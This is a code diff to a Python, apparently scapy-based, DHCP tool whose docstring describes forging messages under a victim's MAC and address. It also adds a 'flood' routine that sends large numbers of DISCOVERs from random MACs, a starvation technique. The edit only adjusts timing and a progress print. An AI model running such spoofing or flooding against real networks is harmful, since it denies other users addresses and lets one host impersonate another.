@@ -5,7 +5,8 @@
 
 The forged messages claim another device: chaddr and the frame's source are the
 victim's MAC, ciaddr/requested address the victim's address. `flood` sends N DISCOVERs
-from N random locally administered MACs at RATE per second. Prints what it sent.
+from N random locally administered MACs at RATE per second: it prints "flooding" once the
+frames are built (scapy takes seconds for thousands on a loaded machine), then what it sent.
 """
 import random
 import sys
@@ -48,8 +49,9 @@ def flood(iface: str, n: int, rate: float) -> None:
     for _ in range(n):
         mac = "02:" + ":".join(f"{rng.randrange(256):02x}" for _ in range(5))
         frames.append(forged("discover", mac, "0.0.0.0", ""))
-    start = time.monotonic()
     sock = conf.L2socket(iface=iface)
+    print("flooding", flush=True)
+    start = time.monotonic()
     try:
         for i, frame in enumerate(frames):
             delay = start + i / rate - time.monotonic()
